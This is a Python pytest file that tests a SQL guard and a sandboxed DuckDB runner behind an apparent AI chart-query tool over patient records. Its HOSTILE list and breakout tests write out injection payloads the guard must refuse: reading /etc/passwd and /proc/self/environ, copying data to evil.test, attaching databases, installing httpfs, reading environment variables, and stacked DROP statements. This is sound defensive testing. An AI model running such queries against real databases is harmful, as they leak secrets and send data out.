"""Only a SELECT made of listed parts passes the guard; and what passes cannot leave its own DuckDB."""

import logging
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from app.errors import ToolRefused
from app.tools.chart_tools import CHART_TOOLS
from app.tools.registry import Registry, ToolResult
from app.warehouse.patient_facts import COLUMNS, TABLES, FactTable, tables
from app.warehouse.patient_query import MOST_CELL, MOST_ROWS, run
from app.warehouse.sql_guard import Checked, check
from tests.ndjson_source import launch

HOSTILE = [
    # files, networks, other databases
    "select * from read_csv('/etc/passwd')",
    "select * from read_csv_auto('/etc/passwd')",
    "select * from read_parquet('x.parquet')",
    "select * from read_json('https://evil.test/x')",
    "select * from read_text('/etc/passwd')",
    "select * from read_blob('/etc/passwd')",
    "select * from glob('/*')",
    "select * from '/etc/passwd'",
    "select * from 'https://evil.test/x.csv'",
    "from '/etc/passwd'",
    "select * from sqlite_scan('x.db', 't')",
    "select * from postgres_scan('', 'a', 'b')",
    "select content from read_text('/proc/self/environ')",
    "attach 'x.db' as x",
    "attach '/tmp/x.db'; select 1",
    "copy results to '/tmp/out.csv'",
    "copy (select * from results) to 'https://evil.test/x'",
    "export database '/tmp/x'",
    "import database '/tmp/x'",
    # statements
    "install httpfs",
    "load httpfs",
    "pragma database_list",
    "pragma enable_external_access",
    "set enable_external_access=true",
    "set lock_configuration=false",
    "reset memory_limit",
    "call pragma_version()",
    "create table x as select 1",
    "create macro f() as (select 1)",
    "create or replace temp view v as select 1",
    "drop table results",
    "delete from results",
    "update results set value='1'",
    "insert into results values (1)",
    "alter table results add column x int",
    "begin",
    "checkpoint",
    "vacuum",
    "explain select 1",
    "describe results",
    "summarize results",
    "show tables",
    "use main",
    "prepare p as select 1",
    "values (1)",
    "select 1; select 2",
    "select 1; drop table results",
    "select 1 from results; --",
    # what the engine tells of itself and of its host
    "select getenv('HOME')",
    "select current_setting('memory_limit')",
    "select * from duckdb_settings()",
    "select * from duckdb_secrets()",
    "select * from information_schema.tables",
    "select * from pg_catalog.pg_tables",
    "select * from sqlite_master",
    "select * from main.results",
    "select * from memory.main.results",
    "select version()",
    "select now(), random()",
    "select * from pragma_version()",
    # table functions, generators, dynamic SQL, functions that grow
    "select * from query('select 1')",
    "select * from query_table('results')",
    "select * from range(1000000000)",
    "select * from generate_series(1, 1000000000)",
    "select unnest(range(1000000000)) from results",
    "select repeat('x', 1000000000) from results",
    "select lpad('x', 1000000000, 'y') from results",
    "select list_transform([1], x -> x) from results",
    "select [x for x in [1]] from results",
    "select {'a': 1} from results",
    "select columns(*) from results",
    "select * from (pivot results on code)",
    "select * from results tablesample 10%",
    "select * from results, lateral (select 1)",
    "with recursive a as (select 1 as n union all select n + 1 from a) select * from a",
    "with recursive a(n) as (select 1 union select n from a) select n from a limit 1",
    "select cast(value as json) from results",
    "select value::blob from results",
    "select cast(value as int[]) from results",
    "select $1 from results",
    "select ? from results",
    "select getvariable('x') from results",
    "select hash(value) from results",
    "select md5(value) from results",
    "select error(value) from results",
    "select write_log(value) from results",
    "select * exclude (value) replace (getenv('HOME') as value) from results",
    "select * from results for update",
    "select * into x from results",
    'select * from "results; drop"',
    "select * from patients",
    "select * from df",
    # columns that no list names: hidden ones, whole rows, the names of the engine
    "select rowid from results",
    "select max(rowid) from results group by rowid",
    "select results from results",
    "select r from results r",
    "select rowid, 1 as rowid from results",
    "select results, 1 as results from results",
    "select handle from results order by rowid",
    "with x as (select handle from results) select x from x",
    "select main.results.handle from results",
    "select file_row_number from results",
    # broken, hidden, endless
    "",
    ";",
    "select",
    "select * from results where value = 'x",
    "select * from results where \u202e1=1",
    "select '\x00' from results",
    "select " + "(" * 100 + "1" + ")" * 100 + " from results",
    "select " + "+".join(["1"] * 900) + " from results",
    "select 1 from results a, results b, results c, results d, results e, results f, results g",
    "select '" + "x" * 3000 + "' from results",
]  # fmt: skip
PLAIN = [
    "select handle, value from results",
    "select count(*) from results where section = 'labs' and date > (select today from clock) - interval 90 day",
    "select test, min(number), max(number), avg(number), median(number) from results group by test having count(*) > 2",
    "select handle, lag(number) over (partition by test order by time) from results qualify row_number() over (partition by test order by time desc) = 1",
    "with x as (select handle, time from results) select r.handle, x.handle from records r left join x on x.time >= r.time",
    "select arg_max(handle, time), string_agg(handle, ' ') from results where test ilike 'potas%' escape '\\'",
    "select case when number > 5 then 'high' else 'other' end from results union all select name from records",
    "select handle, date_diff('day', date, supply_end), round(dose * 2, 1), coalesce(frequency, '') from records",
    "select year(date), date_trunc('month', time), extract(hour from time), cast(number as int) from results",
    "select * from results where exists (select 1 from records where records.date = results.date) order by time limit 3",
    "select count(*) filter (where flag = 'H') from results where value not in ('a', 'b') and number between 1 and 2",
]  # fmt: skip


@pytest.mark.parametrize("sql", HOSTILE, ids=lambda sql: sql[:50])
def test_anything_but_a_select_of_listed_parts_is_refused(sql: str) -> None:
    with pytest.raises(ToolRefused):
        check(sql, TABLES, COLUMNS)


@pytest.mark.parametrize("sql", PLAIN, ids=lambda sql: sql[:50])
def test_an_ordinary_question_passes_and_runs(sql: str) -> None:
    checked = check(sql, TABLES, COLUMNS)
    assert checked.tables <= set(TABLES)
    run(checked, facts())


def test_what_runs_is_printed_from_what_was_checked() -> None:
    checked = check(
        "SELECT handle /* x */ FROM Results -- y\n WHERE section = 'labs'", TABLES, COLUMNS
    )  # fmt: skip
    assert checked == Checked(
        sql="SELECT handle FROM Results WHERE section = 'labs'",
        tables=frozenset({"results"}),
        literals=frozenset({"labs"}),
        sections={"results": frozenset({"labs"})},
    )


def test_a_refused_query_is_logged_nowhere(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG), pytest.raises(ToolRefused) as refused:
        check("explain select 'EVERGREEN' from results", TABLES, COLUMNS)
    assert "EVERGREEN" not in caplog.text + str(refused.value)


# ---------------------------------------------------------------- the engine behind the guard


def facts(rows: int = 3) -> tuple[FactTable, ...]:
    result = FactTable(
        name="results",
        columns=(
            ("handle", "VARCHAR"), ("section", "VARCHAR"), ("test", "VARCHAR"), ("value", "VARCHAR"),
            ("number", "DOUBLE"), ("flag", "VARCHAR"), ("time", "TIMESTAMP"), ("date", "DATE"),
        ),
        rows=[
            (f"L1{'abcdfhk'[n % 7]}", "labs", "Potassium", f"{n}.0", float(n), "H", "2026-11-19T10:00", "2026-11-19")
            for n in range(rows)
        ],
    )  # fmt: skip
    record = FactTable(
        name="records",
        columns=(
            ("handle", "VARCHAR"), ("name", "VARCHAR"), ("time", "TIMESTAMP"), ("date", "DATE"),
            ("supply_end", "DATE"), ("dose", "DOUBLE"), ("frequency", "VARCHAR"),
        ),
        rows=[("M1", "aspirin", None, "2026-11-01", None, 81.0, None)],
    )  # fmt: skip
    clock = FactTable(
        name="clock",
        columns=(("now", "TIMESTAMP"), ("today", "DATE")),
        rows=[("2026-11-20T08:42", "2026-11-20")],
    )
    return result, record, clock


def unguarded(sql: str) -> Checked:
    return Checked(sql=sql, tables=frozenset(TABLES), literals=frozenset())


def test_behind_the_guard_files_settings_and_extensions_are_shut_too(tmp_path: Path) -> None:
    secret = tmp_path / "secret.csv"
    secret.write_text("a\n1\n")
    found = facts(1)  # noqa: F841  # a Python variable that DuckDB could read by its name
    for sql in (
        f"select * from '{secret}'",
        f"select * from read_csv('{secret}')",
        f"select * from read_text('{secret}')",
        f"select * from glob('{tmp_path}/*')",
        "select * from found",
        "select * from read_parquet('https://evil.test/x')",
    ):
        with pytest.raises(ToolRefused) as refused:
            run(unguarded(sql), facts())
        assert "a\n1" not in str(refused.value)
    # Settings can be read and not changed.
    told = run(
        unguarded("select current_setting('lock_configuration'), current_setting('enable_external_access')"),
        facts(),
    )  # fmt: skip
    assert told.rows == (("True", "False"),)
    for sql in (
        f"select 1) to '{tmp_path}/out.csv'; --",
        "select 1) limit 1; set lock_configuration=false; select * from (select 1",
        "select 1) limit 1; install httpfs; select * from (select 1",
        f"select 1) limit 1; attach '{tmp_path}/x.db'; select * from (select 1",
    ):
        with pytest.raises(ToolRefused):
            run(unguarded(sql), facts())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["secret.csv"]


def test_an_endless_query_is_interrupted_and_a_large_one_runs_out_of_its_memory() -> None:
    endless = "select count(*) n from results a, results b, results c, results d where a.number + b.number + c.number + d.number > 7"  # fmt: skip
    with pytest.raises(ToolRefused, match=r"stopped after 0\.1 seconds"):
        run(check(endless, TABLES, COLUMNS), facts(400), longest_s=0.1)
    # The engine is stopped, not only left: the process spends no more time on it.
    before = os.times()
    with pytest.raises(ToolRefused, match="needs more than 64MB"):
        run(
            unguarded("select string_agg(repeat('x', 1000000), '') from range(300)"),
            facts(),
            longest_s=60,
        )
    assert os.times().user - before.user < 5


def test_rows_columns_and_cells_are_bounded() -> None:
    answer = run(check("select handle, value from results", TABLES, COLUMNS), facts(120))
    assert (len(answer.rows), answer.more) == (MOST_ROWS, True)
    long = run(unguarded("select repeat('x|', 500) x"), facts())
    assert (len(long.rows[0][0]), long.rows[0][0][-1], "|" in long.rows[0][0]) == (MOST_CELL, "…", False)  # fmt: skip
    with pytest.raises(ToolRefused, match="more than 12 columns"):
        run(unguarded("select 1,2,3,4,5,6,7,8,9,10,11,12,13"), facts())


def test_a_fault_is_told_without_the_charts_values() -> None:
    with pytest.raises(ToolRefused) as refused:
        run(check("select cast(value as date) from results", TABLES, COLUMNS), facts())
    assert str(refused.value) == "cannot run: ConversionException; check columns and types"
    with pytest.raises(ToolRefused, match="no column nothing; there are author, code, "):
        check("select nothing from results", TABLES, COLUMNS)
    # A column of another table.
    with pytest.raises(ToolRefused) as unknown:
        run(check("select dose from results", TABLES, COLUMNS), facts())
    assert 'Referenced column "dose" not found' in str(unknown.value)


# ---------------------------------------------------------------- the tool


def call(chart: Any, sql: str) -> ToolResult:
    return Registry(CHART_TOOLS, chart, chart.context).call("chart_query", {"sql": sql})


def test_every_row_of_a_query_opens_its_source() -> None:
    chart = launch("marlena")
    result = call(
        chart, "select handle, test, value, date from results where test = 'Potassium' order by time desc limit 2"
    )  # fmt: skip
    assert result.text.splitlines() == [
        "handle|test|value|date",
        "L3a|Potassium|5.6|2026-11-19",
        "L3b|Potassium|5.0|2026-10-14",
    ]
    assert [chart.chart.evidence(h)[0].value for h in result.handles] == ["5.6", "5.0"]
    assert "cannot be cited" in call(chart, "select count(*) from results").text


def test_a_section_that_a_query_names_is_read_and_others_are_named_as_not_read() -> None:
    chart = launch("marlena")
    sql = "select handle, name, date from records where section = 'immunizations' order by date desc limit 1"
    result = call(chart, sql)
    assert [look.section for look in result.looks] == ["immunizations"]
    assert result.text.splitlines()[1].startswith("I1|")
    assert "not read yet: other observations, medication administrations" in result.text
    denied = launch("marlena", denied=("Immunization",))
    refused = call(denied, sql)
    assert "do not say none" in refused.text
    assert "NOT READ TO ITS END: Immunizations: refused by the EHR" in refused.text


@pytest.mark.parametrize(
    "where",
    ["section <> 'problems'", "(section = 'problems' or true)", "name <> 'problems'", "not section = 'problems'", "section not in ('problems')"],
)  # fmt: skip
def test_a_section_that_a_query_only_mentions_does_not_stand_for_the_others(where: str) -> None:
    denied = launch("marlena", denied=("MedicationRequest",))
    sql = f"select count(*) as orders from records where name ilike '%warfarin%' and {where}"
    assert "NOT READ TO ITS END: Medication orders: refused by the EHR" in call(denied, sql).text
    twice = (
        "select count(*) from records a, records b where a.section = 'problems' and b.name = a.name"
    )
    assert "NOT READ TO ITS END: Medication orders: refused" in call(denied, twice).text


def test_sections_that_a_query_holds_its_tables_to_are_all_that_it_reads() -> None:
    chart = launch("marlena")
    sql = (
        "select r.handle from records r join results l on l.date = r.date where r.section in ('problems') "
        "and l.section = 'labs' and l.number > 1000000"
    )
    assert [look.section for look in call(chart, sql).looks] == ["problems", "labs"]


def test_results_that_were_not_asked_for_are_named_where_no_row_was_found() -> None:
    text = call(launch("marlena"), "select count(*) from results where test ilike '%pack%'").text
    assert text.endswith("NOT IN THESE TABLES, not read yet: other observations")


def test_a_query_that_finds_no_row_cites_what_it_searched() -> None:
    result = call(launch("marlena"), "select handle from results where number > 1000000")
    (search,) = result.entries
    assert (search.section, search.name, search.field("complete")) == (
        "search",
        "rows that match a query",
        "yes",
    )


def test_a_partial_date_is_compared_with_no_day_and_a_pressure_has_two_numbers() -> None:
    chart = launch("marlena")
    chart.first_read()
    by_name = {t.name: t for t in tables(chart.chart)}
    columns = [name for name, _ in by_name["results"].columns]
    at = {name: columns.index(name) for name in columns}
    pressure = next(r for r in by_name["results"].rows if r[at["test"]] == "Blood pressure")
    assert (pressure[at["value"]], pressure[at["number"]], pressure[at["number2"]]) == (
        "148/84",
        148.0,
        84.0,
    )
    for table in by_name.values():
        names = [name for name, _ in table.columns]
        for row in table.rows:
            day = row[names.index("date")] if "date" in names else None
            assert day is None or datetime.fromisoformat(str(day)).replace(tzinfo=UTC)


def test_a_refusal_names_the_fault_to_the_model() -> None:
    chart = launch("marlena")
    told = call(chart, "select * from read_csv('/etc/passwd')")
    assert (told.is_error, told.text[:9]) == (True, "Refused: ")
    assert "passwd" not in told.text
